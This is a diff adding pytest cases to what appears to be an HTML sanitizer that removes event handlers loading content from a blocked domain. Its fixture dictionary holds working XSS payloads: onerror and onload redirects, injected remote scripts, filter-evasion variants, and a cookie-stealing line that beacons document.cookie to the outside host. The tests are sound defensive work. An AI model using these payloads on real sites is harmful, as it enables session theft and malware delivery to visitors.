@@ -147,3 +147,40 @@ def test_a_blocked_base_alone_is_no_finding_for_scripts_that_load_nothing() -> N
     body = html('<base href="http://gumblar.cn/"><script>var a = 1; el.textContent = a</script>')
     out, findings = strip(body)
     assert out is body and findings == []
+
+
+HANDLERS = {
+    "img-onerror": "<img src=x onerror=\"location='http://gumblar.cn/'\">",
+    "body-onload": "<body onload=\"location='http://gumblar.cn/'\"><p>kept</p>",
+    "div-onmouseover": "<div onmouseover=\"import('http://gumblar.cn/m.js')\">kept</div>",
+    "svg-onload": "<svg onload=\"var s=document.createElement('script');"
+    "s.src='//gumblar.cn/x.js';document.head.append(s)\"></svg>",
+    "lt-in-earlier-value": '<img alt="a<b" src=x onerror="location=\'http://gumblar.cn/\'">',
+    "no-space": '<img src="x"onerror="location=\'http://gumblar.cn/\'">',
+    "slashes": "<img/src/onerror=location='http://gumblar.cn/'>",
+    "upper-case": "<img src=x ONERROR=\"location='http://gumblar.cn/'\">",
+    "entity-in-host": "<img src=x onerror=\"location='http://gumbl&#97;r.cn/'\">",
+    "magecart": '<img src=x onerror="var c=document.cookie;'
+    "navigator.sendBeacon('https://gumblar.cn/c',c)\">",
+}
+
+
+@pytest.mark.parametrize("fast_path", [True, False])
+@pytest.mark.parametrize("name", sorted(HANDLERS))
+def test_event_handlers_that_load_are_removed(name: str, fast_path: bool) -> None:
+    body = html(HANDLERS[name])
+    out, findings = strip(body, fast_path=fast_path)
+    assert [f.removed for f in findings] == [True], findings
+    assert findings[0].evidence is not None and findings[0].evidence.startswith("on")
+    assert b"gumblar" not in out and b"gumbl&#97;r" not in out
+    assert out.count(b"kept") == body.count(b"kept")  # only the start tag goes
+
+
+def test_event_handlers_that_only_mention_are_kept() -> None:
+    body = html(
+        "<button onclick=\"alert('gumblar.cn is blocked')\">x</button>"
+        '<a href="#" onclick="return false">gumblar.cn</a>'
+    )
+    out, findings = strip(body)
+    assert out is body
+    assert [(f.element, f.reason, f.removed) for f in findings] == [("button", "mention", False)]
